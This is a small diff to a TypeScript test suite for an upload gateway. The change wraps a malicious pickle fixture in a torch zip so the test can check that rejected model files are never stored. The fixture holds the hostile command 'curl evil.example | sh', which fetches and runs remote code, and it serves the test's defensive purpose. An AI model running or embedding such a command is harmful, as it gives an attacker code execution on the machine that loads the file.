@@ -1,7 +1,7 @@
 import { createHash } from "node:crypto";
 import type { MessageInitShape } from "@bufbuild/protobuf";
 import { ErrorReason, FileFormat, type UploadBlobRequestSchema, ValidationStatus } from "@emprops/contracts";
-import { buildSafetensors, callPickle, loraTensors, rpcFailure } from "@emprops/testkit";
+import { buildSafetensors, callPickle, loraTensors, rpcFailure, torchZip } from "@emprops/testkit";
 import { newBlob, pathOf } from "./support/ids.js";
 import { type GatewayUnderTest, startGatewayForTest } from "./support/start-gateway.js";
 
@@ -72,7 +72,7 @@ describe("UploadBlob", () => {
   });
 
   it("never stores a rejected file", async () => {
-    const evil = callPickle("os", "system", "curl evil.example | sh");
+    const evil = torchZip(callPickle("os", "system", "curl evil.example | sh"));
     const blob = newBlob("pt");
     const res = await upload([header(blob, evil.length), ...chunks(evil, [5])]);
     expect(res.verification).toMatchObject({
